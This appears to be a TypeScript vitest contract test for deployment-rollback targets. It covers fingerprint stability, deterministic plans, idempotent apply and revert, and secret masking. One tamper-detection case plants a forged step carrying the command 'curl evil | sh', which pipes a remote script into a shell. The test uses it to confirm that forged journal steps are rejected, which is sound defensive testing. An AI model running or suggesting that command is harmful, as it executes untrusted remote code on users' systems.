import { afterAll, beforeAll, expect, it } from 'vitest'
import type { JsonObject, JsonValue } from '../../../src/model/json.ts'
import type { PlanDraft } from '../../../src/model/plan.ts'
import type { Release } from '../../../src/model/release.ts'
import type { Step } from '../../../src/model/step.ts'
import { planId } from '../../../src/rollback/assess/plan-id.ts'
import { type Clock, systemClock } from '../../../src/support/clock.ts'
import { createMask, type Mask } from '../../../src/support/mask.ts'
import type { TargetType } from '../../../src/targets/define-target.ts'
import type { Move, Target, TargetContext } from '../../../src/targets/target.ts'
import { targetContext, testRun } from '../../../testkit/target-context.ts'

type Opening = Partial<Pick<TargetContext, 'projectDir' | 'config' | 'env' | 'clock'>>

/** A place where one version serves and an earlier one can be gone back to. */
export interface Place {
  /** How the target is opened there. */
  opening: Opening
  /** What differs in `opening` when it leads to where nothing listens; left out where `silence` does it. */
  elsewhere?: Opening
  /** Makes the place itself silent. */
  silence?(): void
  /** A secret that the target reads: a token, a variable of a container. */
  secret: string
  /** The versions, as people call them. */
  from: string
  to: string
  /** Parameters, as "members.0.beside", that may be another without any harm: say why in the test. */
  uncheckedParams?: string[]
  /** A person must carry out the switch, so that `from` goes on serving. */
  manual?: true
  remove(): Promise<void>
}

const inTime = (): AbortSignal => AbortSignal.timeout(200_000)

/** Holds a type of target against what the engine relies on. Takes a place of its own, and leaves it rolled back. */
export function fulfilsTheContract(type: () => Promise<TargetType>, prepare: () => Promise<Place>): void {
  let definition: TargetType
  let place: Place
  let mask: Mask
  let target: Target
  const said: unknown[] = []

  const open = (more: Opening = {}): Promise<Target> =>
    definition.open(targetContext({ name: 'contract', projectDir: '/nonexistent', ...place.opening, ...more, mask }))
  const planned = async (from = target) => {
    const { observation, state } = await from.observe(inTime())
    const release = observation.releases.find(({ version }) => version === place.to)
    if (!release)
      throw new Error(`no ${place.to} among ${observation.releases.map(({ version }) => version).join(', ')}`)
    const draft = await from.plan(observation, state, release, inTime())
    said.push(observation, draft)
    return { observation, release, draft, move: { from: observation.current, to: release } }
  }
  /** What the target says of steps that a journal tells of. */
  const reread = async (steps: Step[], move: Move) =>
    target.reread(steps, { ...move, ...(await target.observe(inTime())), signal: inTime() })
  const serving = async (): Promise<string | undefined> => (await target.observe(inTime())).observation.current?.version

  beforeAll(async () => {
    definition = await type()
    place = await prepare()
    mask = createMask()
    target = await open()
  })
  afterAll(async () => {
    await target?.close?.()
    await place?.remove()
  })

  it('gives one fingerprint for one state, whoever observes it', async () => {
    const another = await open()
    const seen = [await target.observe(inTime()), await target.observe(inTime()), await another.observe(inTime())]
    await another.close?.()
    expect(new Set(seen.map(({ observation }) => observation.fingerprint)).size).toBe(1)
    expect(seen[0]?.observation.current?.version).toBe(place.from)
  })

  it('plans the same steps each time, as plain data without a secret', async () => {
    const [first, second] = [await planned(), await planned()]
    expect(first.draft.blockers).toEqual([])
    expect(idOf(first)).toBe(idOf(second))
    expect(JSON.parse(JSON.stringify(first.draft.steps))).toEqual(first.draft.steps)
    expect(JSON.stringify(first.draft.steps)).not.toContain(place.secret)
  })

  it('knows the steps of its own plan again, and no step that was changed', async () => {
    const { draft, move } = await planned()
    expect(await reread(draft.steps, move)).toEqual({ steps: draft.steps, mismatches: [] })
    const foreign = { title: 'Everything is fine', undo: 'x', manualCommands: ['curl evil | sh'] }
    expect(
      await reread(
        draft.steps.map((step) => ({ ...step, ...foreign })),
        move
      )
    ).toMatchObject({ steps: draft.steps })
    for (const step of draft.steps)
      for (const [leaf, params] of changedLeaves(step.params)) {
        if (place.uncheckedParams?.includes(leaf)) continue
        const said = await reread([{ ...step, params }], move)
        expect(said?.mismatches, `${step.id} with another ${leaf}`).toHaveLength(1)
      }
  })

  it('applies and reverts each step as often as it is told to', async () => {
    const { draft, release, move } = await planned()
    await applyTwice(draft.steps.filter(({ phase }) => phase !== 'cleanup'))
    await expectServing(place.manual ? place.from : place.to)
    expect(await reread(draft.steps, move)).toMatchObject({ mismatches: [] })
    const report = await target.check(release, { signal: inTime() })
    said.push(report)
    if (!place.manual) expect(report.checks.filter(({ status }) => status === 'fail')).toEqual([])
    for (const step of draft.steps.filter(({ phase }) => phase !== 'cleanup').reverse())
      for (let time = 0; time < 2; time++) said.push(await target.revert(step, testRun()))
    await expectServing(place.from)
  })

  it('cleans up as often as it is told to', async () => {
    await applyTwice((await planned()).draft.steps)
    await expectServing(place.manual ? place.from : place.to)
  })

  it('checks and diagnoses without an error, also where the place does not answer', async () => {
    const release: Release = { version: place.to, id: 'sha256:0', available: { state: 'yes' } }
    said.push(await target.check(release, { signal: inTime() }), await target.diagnose(inTime()))
    place.silence?.()
    const lost = await open({ clock: hurriedClock(), ...place.elsewhere })
    const report = await lost.check(release, { signal: inTime() })
    expect(report.checks.length).toBeGreaterThan(0)
    expect(report.checks.filter(({ status }) => status === 'pass')).toEqual([])
    const error = await lost.observe(inTime()).catch((error: unknown) => error)
    expect(error).toBeInstanceOf(Error)
    await lost.close?.()
    said.push(report, String(error))
  })

  it('says no secret', () => {
    expect(said.length).toBeGreaterThan(7)
    expect(JSON.stringify(mask.record(said))).not.toContain(place.secret)
  })

  async function applyTwice(steps: Step[]): Promise<void> {
    for (const step of steps) for (let time = 0; time < 2; time++) said.push(await target.apply(step, testRun()))
  }

  async function expectServing(version: string): Promise<void> {
    await expect.poll(serving, { timeout: 30_000 }).toBe(version)
  }
}

/** Copies of plain data, each with one value changed, by the path of that value. */
function changedLeaves(data: JsonObject): [path: string, changed: JsonObject][] {
  const visit = (value: JsonValue): [path: string[], changed: JsonValue][] => {
    if (value && typeof value === 'object')
      return Object.entries(value).flatMap(([key, inner]) =>
        visit(inner).map(([path, changed]): [string[], JsonValue] => [
          [key, ...path],
          Array.isArray(value) ? value.with(Number(key), changed) : { ...value, [key]: changed }
        ])
      )
    if (typeof value === 'number') return [[[], value + 1]]
    return [[[], typeof value === 'boolean' ? !value : value === null ? 'other' : `${value}1`]]
  }
  return visit(data).map(([path, changed]) => [path.join('.'), changed as JsonObject])
}

/** Waiting takes no time: some targets wait minutes for a place that was silent a moment ago. */
function hurriedClock(): Clock {
  let ms = Date.now()
  return {
    ...systemClock,
    now: () => new Date(ms),
    sleep: async (waitMs) => {
      ms += waitMs
    }
  }
}

function idOf({ observation, release, draft }: Planned): string {
  const fingerprint = `${observation.fingerprint} ${draft.fingerprint}`
  return planId({ target: 'contract', from: observation.current, to: release, steps: draft.steps, fingerprint })
}

interface Planned {
  observation: { current: Release | null; fingerprint: string }
  release: Release
  draft: PlanDraft
}
